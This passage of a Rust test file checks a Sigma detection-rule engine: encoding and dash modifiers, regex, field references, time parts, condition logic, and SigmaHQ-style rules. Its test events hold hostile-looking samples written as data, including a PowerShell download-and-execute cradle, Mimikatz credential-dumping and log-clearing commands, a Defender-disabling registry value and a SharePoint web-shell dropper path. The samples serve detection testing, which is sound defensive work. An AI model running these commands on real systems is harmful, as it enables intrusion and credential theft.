        cases.push((&ping, encoded(format!("{prefix}ping").as_bytes()), true));
    }
    cases.extend([
        (&ping, encoded(b"pong 127.0.0.1"), false),
        (&ping, encoded(&utf16le("ping 127.0.0.1")), false),
        (&ping, command_line("ping 127.0.0.1"), false),
        (&shifted, encoded(b"/spinstall0.aspx"), true),
        (&shifted, encoded(b"/spinstall1.aspx"), false),
        (&iex, encoded(b"$c=1;IEX (New-Object Net.WebClient)"), true),
        (
            &iex,
            encoded(b"$c=1;Write-Host (New-Object Net.WebClient)"),
            false,
        ),
    ]);
    run_table("base64offset", &cases);
}

#[test]
fn utf16_encodings_combine_with_base64offset() {
    let wide = sel("CommandLine|wide|base64offset|contains", "'ping'");
    let le = sel("CommandLine|utf16le|base64offset|contains", "'ping'");
    let be = sel("CommandLine|utf16be|base64offset|contains", "'ping'");
    let bom = sel("CommandLine|utf16|base64offset|contains", "'ping'");
    let encoded =
        |bytes: &[u8]| command_line(&format!("powershell.exe -EncodedCommand {}", b64(bytes)));
    let mut cases = Vec::new();
    for k in 0..6 {
        let prefix = &"abcde"[..k];
        cases.push((
            &wide,
            encoded(&utf16le(&format!("{prefix}ping 127.0.0.1"))),
            true,
        ));
        cases.push((&wide, encoded(&utf16le(&format!("{prefix}ping"))), true));
        cases.push((
            &be,
            encoded(&utf16be(&format!("{prefix}ping 127.0.0.1"))),
            true,
        ));
    }
    let mut with_bom = vec![0xff, 0xfe];
    with_bom.extend(utf16le("ping 127.0.0.1"));
    cases.extend([
        (&wide, encoded(&utf16le("pong 127.0.0.1")), false),
        // The UTF-8 text is not the UTF-16 text.
        (&wide, encoded(b"ping 127.0.0.1"), false),
        (&le, encoded(&utf16le("cmd /c ping 127.0.0.1")), true),
        (&le, encoded(&utf16le("cmd /c pong 127.0.0.1")), false),
        (&be, encoded(b"ping 127.0.0.1"), false),
        (&bom, encoded(&with_bom), true),
        (&bom, encoded(&utf16le("ping 127.0.0.1")), false),
    ]);
    run_table("utf16 and base64offset", &cases);
}

#[test]
fn windash_accepts_every_dash_at_the_start_of_a_flag() {
    let flag = sel("CommandLine|contains|windash", "' -LoadDLL '");
    let inner = sel("CommandLine|contains|windash", "' -foo-bar'");
    let slash = sel("CommandLine|contains|windash", "' /c '");
    let whole = sel("Argument|windash", "'-enc'");
    let two = sel("CommandLine|contains|windash", "' -s -t '");
    let lone = sel("CommandLine|contains|windash", "'a - b'");
    run_table(
        "windash",
        &[
            (
                &flag,
                r#"{"CommandLine": "certoc.exe -LoadDLL a.dll"}"#,
                true,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe /LoadDLL a.dll"}"#,
                true,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe \u2013LoadDLL a.dll"}"#,
                true,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe \u2014LoadDLL a.dll"}"#,
                true,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe \u2015LoadDLL a.dll"}"#,
                true,
            ),
            (
                &flag,
                r#"{"CommandLine": "CERTOC.EXE /loaddll a.dll"}"#,
                true,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe LoadDLL a.dll"}"#,
                false,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe +LoadDLL a.dll"}"#,
                false,
            ),
            (
                &flag,
                r#"{"CommandLine": "certoc.exe \u2012LoadDLL a.dll"}"#,
                false,
            ),
            // A dash inside a word does not start a flag and stays a dash.
            (&inner, r#"{"CommandLine": "tool /foo-bar"}"#, true),
            (&inner, r#"{"CommandLine": "tool \u2014foo-bar"}"#, true),
            (&inner, r#"{"CommandLine": "tool /foo/bar"}"#, false),
            (&inner, r#"{"CommandLine": "tool -foo\u2013bar"}"#, false),
            (&slash, r#"{"CommandLine": "cmd.exe -c dir"}"#, true),
            (&slash, r#"{"CommandLine": "cmd.exe /c dir"}"#, true),
            (&slash, r#"{"CommandLine": "cmd.exe c dir"}"#, false),
            (&whole, r#"{"Argument": "/enc"}"#, true),
            (&whole, r#"{"Argument": "\u2013enc"}"#, true),
            (&whole, r#"{"Argument": "enc"}"#, false),
            (&whole, r#"{"Argument": "x-enc"}"#, false),
            (&two, r#"{"CommandLine": "sc /s \u2013t 5"}"#, true),
            (&two, r#"{"CommandLine": "sc /s +t 5"}"#, false),
            // A dash followed by a space is not a flag.
            (&lone, r#"{"CommandLine": "a - b"}"#, true),
            (&lone, r#"{"CommandLine": "a / b"}"#, false),
        ],
    );
}

#[test]
fn re_is_a_case_sensitive_unanchored_search_with_flags() {
    let path = sel("Image|re", r"'\\cmd\.exe$'");
    let search = sel("CommandLine|re", "'mimi'");
    let insensitive = sel("CommandLine|re|i", "'invoke-mimikatz'");
    let line = sel("Message|re", "'^line2$'");
    let multiline = sel("Message|re|m", "'^line2$'");
    let dot = sel("Message|re", "'a.b'");
    let dot_all = sel("Message|re|s", "'a.b'");
    let digits = sel("EventID|re", r"'^\d{4}$'");
    let element = sel("Tags|re", "'^adm'");
    let alternation = sel("Image|re", r"'^(cmd|powershell)\.exe$'");
    let classes = sel("Name|re", r"'[A-Z]{3}-\d+'");
    let star = sel("Name|re", "'^a*b$'");
    run_table(
        "re",
        &[
            (&path, r#"{"Image": "C:\\Windows\\cmd.exe"}"#, true),
            (&path, r#"{"Image": "C:\\Windows\\xcmd.exe"}"#, false),
            (&path, r#"{"Image": "C:\\Windows\\cmd.exe.bak"}"#, false),
            (&path, r#"{"Image": "C:\\WINDOWS\\CMD.EXE"}"#, false),
            (&search, r#"{"CommandLine": "run mimikatz now"}"#, true),
            (&search, r#"{"CommandLine": "run MIMIKATZ now"}"#, false),
            (
                &insensitive,
                r#"{"CommandLine": "Invoke-Mimikatz -DumpCreds"}"#,
                true,
            ),
            (&insensitive, r#"{"CommandLine": "Invoke-Mimi"}"#, false),
            (&line, r#"{"Message": "line1\nline2"}"#, false),
            (&multiline, r#"{"Message": "line1\nline2"}"#, true),
            (&multiline, r#"{"Message": "line1\nline22"}"#, false),
            (&dot, r#"{"Message": "axb"}"#, true),
            (&dot, r#"{"Message": "a\nb"}"#, false),
            (&dot_all, r#"{"Message": "a\nb"}"#, true),
            (&dot_all, r#"{"Message": "ab"}"#, false),
            (&digits, r#"{"EventID": 4688}"#, true),
            (&digits, r#"{"EventID": 46880}"#, false),
            (&element, r#"{"Tags": ["user", "admin"]}"#, true),
            (&element, r#"{"Tags": ["user", "sysadmin"]}"#, false),
            (&alternation, r#"{"Image": "powershell.exe"}"#, true),
            (&alternation, r#"{"Image": "pwsh.exe"}"#, false),
            (&alternation, r#"{"Image": "xcmd.exe"}"#, false),
            (&classes, r#"{"Name": "ticket ABC-123"}"#, true),
            (&classes, r#"{"Name": "ticket abc-123"}"#, false),
            // `*` is a regular-expression quantifier here, not a Sigma wildcard.
            (&star, r#"{"Name": "b"}"#, true),
            (&star, r#"{"Name": "aaab"}"#, true),
            (&star, r#"{"Name": "axb"}"#, false),
        ],
    );
}

#[test]
fn fieldref_compares_two_fields_of_the_event() {
    let same = sel("User|fieldref", "ParentUser");
    let pid = sel("ProcessId|fieldref", "ParentProcessId");
    let differs = sel("User|fieldref|neq", "ParentUser");
    let differs_other_order = sel("User|neq|fieldref", "ParentUser");
    run_table(
        "fieldref",
        &[
            (
                &same,
                r#"{"User": "CORP\\alice", "ParentUser": "CORP\\alice"}"#,
                true,
            ),
            (
                &same,
                r#"{"User": "CORP\\ALICE", "ParentUser": "corp\\alice"}"#,
                true,
            ),
            (
                &same,
                r#"{"Event": {"EventData": {"User": "alice", "ParentUser": "alice"}}}"#,
                true,
            ),
            (
                &same,
                r#"{"User": "CORP\\alice", "ParentUser": "CORP\\bob"}"#,
                false,
            ),
            // The referenced value is data, not a pattern.
            (&same, r#"{"User": "alice", "ParentUser": "a*"}"#, false),
            (&same, r#"{"User": "alice"}"#, false),
            (&same, "{}", false),
            (&pid, r#"{"ProcessId": 4, "ParentProcessId": 4}"#, true),
            (&pid, r#"{"ProcessId": 4, "ParentProcessId": "4"}"#, true),
            (&pid, r#"{"ProcessId": 4, "ParentProcessId": 5}"#, false),
            (&differs, r#"{"User": "alice", "ParentUser": "bob"}"#, true),
            (&differs, r#"{"User": "alice"}"#, true),
            (
                &differs,
                r#"{"User": "alice", "ParentUser": "ALICE"}"#,
                false,
            ),
            (
                &differs_other_order,
                r#"{"User": "alice", "ParentUser": "bob"}"#,
                true,
            ),
            (
                &differs_other_order,
                r#"{"User": "alice", "ParentUser": "alice"}"#,
                false,
            ),
        ],
    );
}

#[test]
fn time_modifiers_read_parts_of_a_timestamp() {
    // 2023-05-10 is a Wednesday in week 19 by every usual week numbering.
    let stamp = r#"{"UtcTime": "2023-05-10T03:15:42Z"}"#;
    let hour = sel("UtcTime|hour", "3");
    let late = sel("UtcTime|hour|gte", "22");
    let early = sel("UtcTime|hour|lt", "6");
    let hours = sel("UtcTime|hour", "[1, 2, 3]");
    let system_time = sel("TimeCreated_SystemTime|hour", "7");
    run_table(
        "time modifiers",
        &[
            (hour.as_str(), stamp, true),
            (
                hour.as_str(),
                r#"{"UtcTime": "2023-05-10T13:15:42Z"}"#,
                false,
            ),
            (sel("UtcTime|minute", "15").as_str(), stamp, true),
            (sel("UtcTime|minute", "16").as_str(), stamp, false),
            (sel("UtcTime|day", "10").as_str(), stamp, true),
            (sel("UtcTime|day", "11").as_str(), stamp, false),
            (sel("UtcTime|week", "19").as_str(), stamp, true),
            (sel("UtcTime|week", "20").as_str(), stamp, false),
            (sel("UtcTime|month", "5").as_str(), stamp, true),
            (sel("UtcTime|month", "6").as_str(), stamp, false),
            (sel("UtcTime|year", "2023").as_str(), stamp, true),
            (sel("UtcTime|year", "2024").as_str(), stamp, false),
            (
                late.as_str(),
                r#"{"UtcTime": "2023-05-10T23:05:00Z"}"#,
                true,
            ),
            (
                late.as_str(),
                r#"{"UtcTime": "2023-05-10T22:00:00Z"}"#,
                true,
            ),
            (
                late.as_str(),
                r#"{"UtcTime": "2023-05-10T21:59:59Z"}"#,
                false,
            ),
            (early.as_str(), stamp, true),
            (
                early.as_str(),
                r#"{"UtcTime": "2023-05-10T06:00:00Z"}"#,
                false,
            ),
            (hours.as_str(), stamp, true),
            (
                hours.as_str(),
                r#"{"UtcTime": "2023-05-10T04:00:00Z"}"#,
                false,
            ),
            // Sysmon writes `UtcTime` with a space and milliseconds.
            (
                hour.as_str(),
                r#"{"UtcTime": "2023-05-10 03:15:42.123"}"#,
                true,
            ),
            (
                hour.as_str(),
                r#"{"UtcTime": "2023-05-10T03:15:42.1234567Z"}"#,
                true,
            ),
            // No time-zone conversion: the hour is read as written.
            (
                hour.as_str(),
                r#"{"UtcTime": "2023-05-10T03:15:42+02:00"}"#,
                true,
            ),
            (hour.as_str(), r#"{"UtcTime": "yesterday"}"#, false),
            (hour.as_str(), "{}", false),
            (
                system_time.as_str(),
                r##"{"Event": {"System": {"TimeCreated": {"#attributes": {"SystemTime": "2025-11-27T07:40:10.165324Z"}}}}}"##,
                true,
            ),
            (
                system_time.as_str(),
                r##"{"Event": {"System": {"TimeCreated": {"#attributes": {"SystemTime": "2025-11-27T08:40:10.165324Z"}}}}}"##,
                false,
            ),
        ],
    );
}

#[test]
fn keywords_search_every_string_value() {
    let keywords = r"
        detection:
            keywords:
                - 'event::clear'
                - 'event::drop'
            condition: keywords
    ";
    let all = r"
        detection:
            keywords:
                '|all':
                    - 'OabVirtualDirectory'
                    - ' -ExternalUrl '
            condition: keywords
    ";
    let glob = r"
        detection:
            keywords:
                - 'evil*.exe'
            condition: keywords
    ";
    let path = r"
        detection:
            keywords:
                - '\Temp\'
            condition: keywords
    ";
    let with_selection = r"
        detection:
            selection:
                EventID: 4104
            keywords:
                - 'mimikatz'
            condition: selection and keywords
    ";
    run_table(
        "keywords",
        &[
            (
                keywords,
                r#"{"CommandLine": "mimikatz.exe EVENT::Clear exit"}"#,
                true,
            ),
            (
                keywords,
                r#"{"Event": {"EventData": {"Payload": ["x", "privilege::debug event::drop"]}}}"#,
                true,
            ),
            (keywords, r#"{"CommandLine": "event::list"}"#, false),
            // Field names are not searched.
            (keywords, r#"{"event::clear": "x"}"#, false),
            (keywords, "{}", false),
            (
                all,
                r#"{"Payload": "Set-OabVirtualDirectory -Identity x -ExternalUrl https://a"}"#,
                true,
            ),
            (
                all,
                r#"{"Cmdlet": "Set-OabVirtualDirectory", "Params": "-Identity x -ExternalUrl https://a"}"#,
                true,
            ),
            (
                all,
                r#"{"Payload": "Set-OabVirtualDirectory -Identity x"}"#,
                false,
            ),
            (glob, r#"{"Message": "run evil123.exe now"}"#, true),
            (glob, r#"{"Message": "run evil.dll now"}"#, false),
            (path, r#"{"Path": "C:\\Temp\\x.exe"}"#, true),
            (path, r#"{"Path": "C:\\Tmp\\x.exe"}"#, false),
            (
                with_selection,
                r#"{"EventID": 4104, "ScriptBlockText": "Invoke-Mimikatz"}"#,
                true,
            ),
            (
                with_selection,
                r#"{"EventID": 4103, "ScriptBlockText": "Invoke-Mimikatz"}"#,
                false,
            ),
            (
                with_selection,
                r#"{"EventID": 4104, "ScriptBlockText": "Get-Date"}"#,
                false,
            ),
        ],
    );
}

#[test]
fn selections_and_maps_and_lists() {
    let map = r"
        detection:
            selection:
                Image|endswith: '\cmd.exe'
                CommandLine|contains: 'whoami'
            condition: selection
    ";
    let list_of_maps = r"
        detection:
            selection:
                - Image|endswith: '\example.exe'
                - Description|contains: 'Test executable'
            condition: selection
    ";
    let mixed = r"
        detection:
            selection:
                - Image|endswith: '\rundll32.exe'
                  CommandLine|contains: 'javascript:'
                - OriginalFileName: 'RUNDLL32.EXE'
            condition: selection
    ";
    let same_field = r"
        detection:
            selection:
                CommandLine|startswith: 'cmd'
                CommandLine|endswith: 'exit'
            condition: selection
    ";
    run_table(
        "selections",
        &[
            (
                map,
                r#"{"Image": "C:\\x\\cmd.exe", "CommandLine": "cmd /c whoami"}"#,
                true,
            ),
            (
                map,
                r#"{"Image": "C:\\x\\cmd.exe", "CommandLine": "cmd /c dir"}"#,
                false,
            ),
            (
                map,
                r#"{"Image": "C:\\x\\pwsh.exe", "CommandLine": "whoami"}"#,
                false,
            ),
            (list_of_maps, r#"{"Image": "C:\\x\\example.exe"}"#, true),
            (
                list_of_maps,
                r#"{"Description": "A test executable"}"#,
                true,
            ),
            (
                list_of_maps,
                r#"{"Image": "C:\\x\\other.exe", "Description": "Other"}"#,
                false,
            ),
            (
                mixed,
                r#"{"Image": "C:\\x\\rundll32.exe", "CommandLine": "rundll32 javascript:x"}"#,
                true,
            ),
            (
                mixed,
                r#"{"Image": "C:\\x\\rundll32.exe", "CommandLine": "rundll32 a.dll"}"#,
                false,
            ),
            (
                mixed,
                r#"{"Image": "C:\\x\\r.exe", "OriginalFileName": "RUNDLL32.EXE"}"#,
                true,
            ),
            (same_field, r#"{"CommandLine": "cmd /c dir & exit"}"#, true),
            (same_field, r#"{"CommandLine": "cmd /c dir"}"#, false),
        ],
    );
}

/// A rule with selections `a`, `b` and `c` (fields `A`, `B`, `C` equal to 1) and `condition`.
fn abc(condition: &str) -> String {
    format!(
        "detection:\n    a:\n        A: 1\n    b:\n        B: 1\n    c:\n        C: 1\n    condition: {condition}\n"
    )
}

/// An event whose fields `A`, `B` and `C` are the three digits of `bits`, e.g. `"101"`.
fn abc_event(bits: &str) -> String {
    let digits: Vec<char> = bits.chars().collect();
    format!(
        r#"{{"A": {}, "B": {}, "C": {}}}"#,
        digits[0], digits[1], digits[2]
    )
}

#[test]
fn condition_operators_and_precedence() {
    let deep = format!("{}a{}", "(".repeat(32), ")".repeat(32));
    let keyword_like = r"
        detection:
            android:
                A: 1
            orchid:
                B: 1
            nothing:
                C: 1
            condition: android and not nothing or orchid
    ";
    let list = r"
        detection:
            a:
                A: 1
            b:
                B: 1
            condition:
                - a
                - b
    ";
    let cases = [
        (abc("a"), abc_event("100"), true),
        (abc("a"), abc_event("011"), false),
        (abc("a and b"), abc_event("110"), true),
        (abc("a and b"), abc_event("100"), false),
        (abc("a or b"), abc_event("010"), true),
        (abc("a or b"), abc_event("001"), false),
        (abc("not a"), abc_event("011"), true),
        (abc("not a"), abc_event("100"), false),
        (abc("a and not b"), abc_event("100"), true),
        (abc("a and not b"), abc_event("110"), false),
        (abc("a and b and c"), abc_event("111"), true),
        (abc("a and b and c"), abc_event("110"), false),
        (abc("a or b or c"), abc_event("001"), true),
        (abc("a or b or c"), abc_event("000"), false),
        // `or` binds less tightly than `and`: a or (b and c).
        (abc("a or b and c"), abc_event("100"), true),
        (abc("a or b and c"), abc_event("011"), true),
        (abc("a or b and c"), abc_event("010"), false),
        (abc("b and c or a"), abc_event("100"), true),
        (abc("(a or b) and c"), abc_event("100"), false),
        (abc("(a or b) and c"), abc_event("011"), true),
        // `not` binds more tightly than `and` and `or`.
        (abc("not a and b"), abc_event("000"), false),
        (abc("not a and b"), abc_event("010"), true),
        (abc("not a and b"), abc_event("110"), false),
        (abc("not a or b"), abc_event("110"), true),
        (abc("not a or b"), abc_event("100"), false),
        (abc("not (a or b)"), abc_event("000"), true),
        (abc("not (a or b)"), abc_event("010"), false),
        (abc("not not a"), abc_event("100"), true),
        (abc("not not a"), abc_event("000"), false),
        (abc("a and (b or (c and not a))"), abc_event("110"), true),
        (abc("a and (b or (c and not a))"), abc_event("101"), false),
        (abc("((a))"), abc_event("100"), true),
        (abc("((a))"), abc_event("000"), false),
        (abc("a   and    b"), abc_event("110"), true),
        (abc("a   and    b"), abc_event("010"), false),
        (abc(&deep), abc_event("100"), true),
        (abc(&deep), abc_event("010"), false),
        // Identifiers that begin with an operator's name are identifiers.
        (keyword_like.to_owned(), abc_event("100"), true),
        (keyword_like.to_owned(), abc_event("010"), true),
        (keyword_like.to_owned(), abc_event("101"), false),
        (keyword_like.to_owned(), abc_event("000"), false),
        // A list of conditions is joined with `or`.
        (list.to_owned(), abc_event("010"), true),
        (list.to_owned(), abc_event("100"), true),
        (list.to_owned(), abc_event("001"), false),
    ];
    run_table("condition operators", &cases);
}

/// A rule with identifiers `selection_img`, `selection_cli`, `filter_main` and `_aux` (fields
/// `Img`, `Cli`, `Filter`, `Aux` equal to 1) and `condition`.
fn groups(condition: &str) -> String {
    format!(
        "detection:
    selection_img:
        Img: 1
    selection_cli:
        Cli: 1
    filter_main:
        Filter: 1
    _aux:
        Aux: 1
    condition: {condition}
"
    )
}

#[test]
fn condition_quantifiers_over_identifier_patterns() {
    let prefix_itself = r"
        detection:
            selection:
                A: 1
            selection_extra:
                B: 1
            condition: all of selection*
    ";
    let cases = [
        (
            groups("all of selection_*"),
            r#"{"Img": 1, "Cli": 1}"#,
            true,
        ),
        (groups("all of selection_*"), r#"{"Img": 1}"#, false),
        (groups("1 of selection_*"), r#"{"Cli": 1}"#, true),
        (groups("1 of selection_*"), r#"{"Filter": 1}"#, false),
        (
            groups("1 of selection_* and not 1 of filter_*"),
            r#"{"Img": 1}"#,
            true,
        ),
        (
            groups("1 of selection_* and not 1 of filter_*"),
            r#"{"Img": 1, "Filter": 1}"#,
            false,
        ),
        (
            groups("all of selection_* and not 1 of filter_*"),
            r#"{"Img": 1, "Cli": 1}"#,
            true,
        ),
        (
            groups("all of selection_* and not 1 of filter_*"),
            r#"{"Img": 1, "Cli": 1, "Filter": 1}"#,
            false,
        ),
        (groups("not 1 of filter_*"), "{}", true),
        (groups("not 1 of filter_*"), r#"{"Filter": 1}"#, false),
        (groups("1 of them"), r#"{"Filter": 1}"#, true),
        // `them` leaves out identifiers that start with `_`.
        (groups("1 of them"), r#"{"Aux": 1}"#, false),
        (groups("1 of them"), "{}", false),
        (
            groups("all of them"),
            r#"{"Img": 1, "Cli": 1, "Filter": 1}"#,
            true,
        ),
        (
            groups("all of them"),
            r#"{"Img": 1, "Cli": 1, "Aux": 1}"#,
            false,
        ),
        // The wildcard may stand anywhere in the pattern.
        (groups("all of *_img"), r#"{"Img": 1}"#, true),
        (groups("all of *_img"), r#"{"Cli": 1}"#, false),
        (groups("1 of sel*_cli"), r#"{"Cli": 1}"#, true),
        (groups("1 of sel*_cli"), r#"{"Img": 1}"#, false),
        // An identifier starting with `_` can still be named.
        (
            groups("selection_img and _aux"),
            r#"{"Img": 1, "Aux": 1}"#,
            true,
        ),
        (groups("selection_img and _aux"), r#"{"Img": 1}"#, false),
        // `selection*` also covers `selection` itself.
        (prefix_itself.to_owned(), r#"{"A": 1, "B": 1}"#, true),
        (prefix_itself.to_owned(), r#"{"B": 1}"#, false),
    ];
    run_table("condition quantifiers", &cases);
}

#[test]
fn rules_shaped_like_sigmahq_process_creation_rules() {
    let certoc = r"
        detection:
            selection_img:
                - Image|endswith: '\certoc.exe'
                - OriginalFileName: 'CertOC.exe'
            selection_cli:
                CommandLine|contains|windash: ' -LoadDLL '
            condition: all of selection_*
    ";
    let cross_user = r"
        detection:
            selection:
                Image|endswith:
                    - '\notepad.exe'
                    - '\calc.exe'
            filter_main_same_user:
                User|fieldref: ParentUser
            filter_optional_user_null:
                User: null
            filter_optional_parent_null:
                ParentUser: null
            filter_optional_empty:
                - ParentUser:
                      - ''
                      - '-'
                - User:
                      - ''
                      - '-'
            condition: selection and not 1 of filter_main_* and not 1 of filter_optional_*
    ";
    let security = r"
        detection:
            selection:
                Provider_Name: 'Microsoft-Windows-Security-Auditing'
                EventID: 4688
                NewProcessName|endswith: '\whoami.exe'
            filter_machine:
                SubjectUserName|endswith: '$'
            condition: selection and not filter_machine
    ";
    let registry = r"
        detection:
            selection:
                EventType: SetValue
                TargetObject|endswith: '\Policies\Microsoft\Windows Defender\DisableAntiSpyware'
                Details: 'DWORD (0x00000001)'
            condition: selection
    ";
    let obfuscation = r"
        detection:
            selection:
                CommandLine|re: '\$PSHome\[\s*\d{1,3}\s*\]\s*\+\s*\$PSHome\['
            condition: selection
    ";
    run_table(
        "rule shapes",
        &[
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\certoc.exe", "CommandLine": "certoc.exe /LoadDLL C:\\Users\\Public\\a.dll"}}}"#,
                true,
            ),
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Users\\Public\\x.exe", "OriginalFileName": "CertOC.exe", "CommandLine": "x.exe -loaddll a.dll"}}}"#,
                true,
            ),
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\certoc.exe", "CommandLine": "certoc.exe -GetCACAPS https://a"}}}"#,
                false,
            ),
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\rundll32.exe", "CommandLine": "rundll32 -LoadDLL a.dll"}}}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice", "ParentUser": "CORP\\bob"}"#,
                true,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice", "ParentUser": "corp\\ALICE"}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice"}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice", "ParentUser": "-"}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe.bak", "User": "CORP\\alice", "ParentUser": "CORP\\bob"}"#,
                false,
            ),
            (
                security,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}}}, "EventData": {"SubjectUserName": "alice", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}}}"##,
                true,
            ),
            (
                security,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}}}, "EventData": {"SubjectUserName": "HOST01$", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}}}"##,
                false,
            ),
            (
                security,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4689, "#attributes": {"Qualifiers": 0}}}, "EventData": {"SubjectUserName": "alice", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}}}"##,
                false,
            ),
            (
                registry,
                r#"{"EventType": "SetValue", "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000001)"}"#,
                true,
            ),
            (
                registry,
                r#"{"EventType": "SetValue", "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000000)"}"#,
                false,
            ),
            (
                obfuscation,
                r#"{"CommandLine": "powershell &( $PSHome[ 4 ]+$PSHome[30]+'x')"}"#,
                true,
            ),
            (
                obfuscation,
                r#"{"CommandLine": "powershell &( $pshome[4]+$pshome[30]+'x')"}"#,
                false,
            ),
        ],
    );
}

#[test]
fn rules_shaped_like_sigmahq_encoded_command_rules() {
    let iex = "
        detection:
            selection:
                - CommandLine|base64offset|contains:
                      - 'IEX (['
                      - 'iex (New'
                      - 'IEX (New'
                - CommandLine|contains:
                      - 'SQBFAFgAIAAoAE4AZQB3A'
                      - 'kARQBYACAAKABOAGUAdw'
                      - 'JAEUAWAAgACgATgBlAHcA'
            condition: selection
    ";
    let sharepoint = r"
        detection:
            selection_img:
                ParentImage|endswith: '\w3wp.exe'
            selection_encoded_aspx:
                - CommandLine|wide|base64offset|contains: 'spinstall0.aspx'
                - CommandLine|base64|contains: 'spinstall0.aspx'
            selection_ioc:
                CommandLine|contains: 'TEMPLATE\LAYOUTS\spinstall0.aspx'
            condition: (selection_img and 1 of selection_encoded_*) or selection_ioc
    ";
    let process = |parent: &str, cmd: &str| {
        format!(r#"{{"ParentImage": "C:\\Windows\\System32\\{parent}", "CommandLine": "{cmd}"}}"#)
    };
    let dropper =
        r"$p = 'C:\PROGRA~1\COMMON~1\MICROS~1\WEBSER~1\16\TEMPLATE\LAYOUTS\spinstall0.aspx'";
    let wide_dropper = format!("powershell.exe -EncodedCommand {}", b64(&utf16le(dropper)));
    let cases = [
        (
            iex,
            command_line(&b64(
                b"$c=1;IEX (New-Object Net.WebClient).DownloadString('http://a')",
            )),
            true,
        ),
        (
            iex,
            command_line(&b64(b"IEX ([Text.Encoding]::UTF8.GetString($b))")),
            true,
        ),
        (
            iex,
            command_line(&format!(
                "powershell -enc {}",
                b64(&utf16le("IEX (New-Object Net.WebClient)"))
            )),
            true,
        ),
        (
            iex,
            command_line(&b64(b"Write-Host (New-Object Net.WebClient)")),
            false,
        ),
        (
            iex,
            command_line("powershell -c IEX (New-Object Net.WebClient)"),
            false,
        ),
        (
            sharepoint,
            process("inetsrv\\\\w3wp.exe", &wide_dropper),
            true,
        ),
        (sharepoint, process("explorer.exe", &wide_dropper), false),
        (
            sharepoint,
            process(
                "inetsrv\\\\w3wp.exe",
                &format!("cmd /c echo {}", b64(b"spinstall0.aspx uploaded")),
            ),
            true,
        ),
        (
            sharepoint,
            process(
                "inetsrv\\\\w3wp.exe",
                &format!("powershell -e {}", b64(&utf16le("Get-ChildItem"))),
            ),
            false,
        ),
        (
            sharepoint,
            process("cmd.exe", r"type C:\\x\\TEMPLATE\\LAYOUTS\\spinstall0.aspx"),
            true,
        ),
    ];
    run_table("encoded command rules", &cases);
}
